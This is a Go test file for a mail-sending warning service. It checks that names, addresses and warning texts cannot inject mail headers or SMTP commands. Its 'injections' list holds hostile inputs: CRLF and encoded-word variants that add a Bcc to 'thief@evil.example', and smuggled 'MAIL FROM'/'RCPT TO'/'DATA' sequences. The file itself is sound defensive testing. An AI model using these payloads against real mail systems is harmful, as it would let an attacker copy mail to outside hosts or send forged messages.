package app_test

import (
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"lianfang/internal/app"
	"lianfang/internal/face/mail"
	"lianfang/internal/format/tlp"
	"lianfang/internal/member"
	"lianfang/internal/store/storetest"
	"lianfang/internal/text"
	"lianfang/internal/warning"
)

// Every word that somebody else may choose and that comes into a mail: names of people and organisations, titles and texts of sources and of the desk, addresses.
// None of them becomes a header, a second recipient, a second mail or a command, whatever its bytes.

// injections are what a word may carry. X stands for a word that is looked for.
var injections = []string{
	"X\r\nBcc: thief@evil.example", "X\nBcc: thief@evil.example", "X\rBcc: thief@evil.example", "X\r\n\r\n<b>second body</b>", "X\r\n.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<thief@evil.example>\r\nDATA\r\n", "X\r\n.\r\n.\r\n..\r\n",
	"X=?utf-8?q?=0D=0ABcc:=20thief@evil.example?=", "X=?utf-8?b?DQpCY2M6IHRoaWVmQGV2aWwuZXhhbXBsZQ==?=", "X%0d%0aBcc: thief@evil.example", "X\u2028Bcc: thief@evil.example", "X\u0085Bcc: thief@evil.example", "X\v\fBcc: thief@evil.example",
	"X\u202e\u2066elpmaxe.live@feiht", `X" <thief@evil.example>, "`, "X<thief@evil.example>", "X, thief@evil.example;", strings.Repeat("X 長 ", 500), "X" + strings.Repeat("a", 5000), "X\x1b[2J\a\b",
}

// headersOf are the names of headers that our mails have.
var headersOf = []string{"Auto-Submitted", "Content-Transfer-Encoding", "Content-Type", "Date", "From", "List-Id", "Message-Id", "Message-ID", "Mime-Version", "MIME-Version", "Reply-To", "Subject", "To", "User-Agent", "X-Auto-Response-Suppress", "X-Lianfang-Retry", "X-Mailer"}

var headerLine = regexp.MustCompile(`^([A-Za-z-]+):(?: |$)|^[ \t]\S`)

// clean looks at the bytes of a mail.
func clean(t *testing.T, m message) {
	t.Helper()
	head, _, ok := strings.Cut(m.body, "\r\n\r\n")
	if !ok {
		t.Errorf("no end of the headers: %.300q", m.body)
	}
	for line := range strings.SplitSeq(head, "\r\n") {
		found := headerLine.FindStringSubmatch(line)
		if found == nil || found[1] != "" && !slices.Contains(headersOf, found[1]) || len(line) > 998 || strings.ContainsAny(line, "\r\n\x00\x0b\x0c\x1b\u2028\u0085") {
			t.Errorf("a header line %q", line)
		}
	}
	if n := strings.Count(head, "\nTo: ") + strings.Count(head, "\nSubject:"); n != 2 || strings.Contains(strings.ToLower(head), "\nbcc:") || strings.Contains(head, "thief") && strings.Contains(head, "\nTo: thief") {
		t.Errorf("the headers\n%s", head)
	}
	if !strings.HasSuffix(m.to, "@mail.example") || strings.ContainsAny(m.to, " \r\n<>,") {
		t.Errorf("a mail to %q", m.to)
	}
}

func TestNoWordBecomesAHeader(t *testing.T) {
	t.Parallel()
	storetest.EachAddr(t, func(t *testing.T, addr string) {
		o := newOffice(t)
		w := newWorld(t, addr, func(a *app.Options) {
			a.PublicURL = "http://centre.example"
			a.Mail = mail.Options{Host: "127.0.0.1", Port: o.port, TLS: mail.Plain, From: "desk@centre.example"}
		})
		ctx, m := t.Context(), w.app.Members
		w.base()
		taken, want := map[string]int{}, 0
		for i, evil := range injections {
			evil = strings.ReplaceAll(evil, "X", fmt.Sprintf("Word%d ", i))
			try := func(what string, err error) bool { // a domain may refuse it; it may not let it through
				if err == nil {
					taken[what]++
				}
				return err == nil
			}
			for _, address := range []string{"a" + fmt.Sprint(i) + "@mail.example" + evil, evil + "@mail.example", "a@" + evil + ".mail.example"} {
				_, err := m.AddContacts(ctx, system, []member.NewContact{{Org: w.hospital, Role: "security", Channel: member.Mail, Address: address, Rank: 1, Verified: true}})
				if try("address", err) && strings.ContainsAny(address, "\r\n \x00<>,;\"") {
					t.Errorf("a contact at %q", address)
				}
				_, err = m.AddPeople(ctx, system, []member.NewPerson{{Name: "P", Email: address, Lang: text.En, Org: w.hospital, Role: member.Officer}})
				if try("address", err) && strings.ContainsAny(address, "\r\n \x00<>,;\"") {
					t.Errorf("a person at %q", address)
				}
				w.post(nil, "/sign-in/ask", "mail="+url.QueryEscape(address))
			}
			ids, err := m.CreateOrgs(ctx, system, []member.NewOrg{{Slug: fmt.Sprintf("evil-%d", i), Name: text.Of(evil, evil), Level: member.ProviderLevel, Sector: "health", Kind: "hospital", AgreedVersion: "1"}})
			org := w.clinic
			if try("organisation", err) {
				org = ids[0]
			}
			email := fmt.Sprintf("person%d@mail.example", i)
			_, err = m.AddPeople(ctx, system, []member.NewPerson{{Name: evil, Email: email, Lang: text.En, Org: org, Role: member.Officer}})
			if try("person", err) {
				a := w.post(nil, "/sign-in/ask", "mail="+email+"&back="+url.QueryEscape("/warnings?q="+evil))
				if a.code != http.StatusSeeOther {
					t.Errorf("%d", a.code)
				}
				want++
			}
			_, err = m.AddContacts(ctx, system, []member.NewContact{{Org: org, Role: "security", Channel: member.Mail, Address: fmt.Sprintf("contact%d@mail.example", i), Rank: 1, Verified: true}})
			w.ok(err)
			want += w.draftAndRelease(i, evil)
		}
		for before, end := -1, time.Now().Add(30*time.Second); (len(o.all()) < want || len(o.all()) > before) && time.Now().Before(end); time.Sleep(500 * time.Millisecond) {
			before = len(o.all())
		}
		for _, m := range o.all() {
			clean(t, m)
		}
		t.Logf("%d mails of %d expected; taken: %v", len(o.all()), want, taken)
		if len(o.all()) < want || taken["person"] == 0 || taken["organisation"] == 0 || want < 15 {
			t.Errorf("%d mails, want %d", len(o.all()), want)
		}
	})
}

// draftAndRelease writes a warning of such words at the desk, for the organisation of that number, and gives how many mails follow.
func (w *world) draftAndRelease(i int, words string) int {
	w.t.Helper()
	desk := w.reader("desk")
	form := url.Values{"kind": {"ANA"}, "tlp": {tlp.Green.Word()}, "urgency": {"1"}, "orgs": {fmt.Sprintf("evil-%d\nclinic", i)}}
	for _, f := range []string{"title", "lead", "todo"} {
		form.Set(f+"-zh", words)
		form.Set(f+"-en", words)
	}
	if _, err := w.app.Members.FindOrgBySlug(w.t.Context(), system, fmt.Sprintf("evil-%d", i)); err != nil {
		form.Set("orgs", "clinic")
	}
	desk.cookie = &http.Cookie{Name: "lf_session", Value: w.session(desk)}
	a := w.post(desk, "/warnings/new", form.Encode())
	if a.code != http.StatusSeeOther {
		return 0 // the domain does not take such words
	}
	at, _, _ := strings.Cut(a.header.Get("Location"), "?")
	at = strings.TrimSuffix(at, "/desk")
	for _, name := range []string{"desk", "second of the desk"} {
		fresh := *w.reader(name)
		fresh.cookie = &http.Cookie{Name: "lf_session", Value: w.session(&fresh)}
		w.post(&fresh, at+"/approve", "")
	}
	w.drain()
	x, err := w.app.Warning.Find(w.t.Context(), system, strings.TrimPrefix(at, "/warnings/"))
	w.ok(err)
	if x.State != warning.Released || x.TLP != tlp.Green {
		w.t.Fatalf("the warning is %s", x.State)
	}
	w.clock.pass(time.Hour) // no digest
	return 1
}
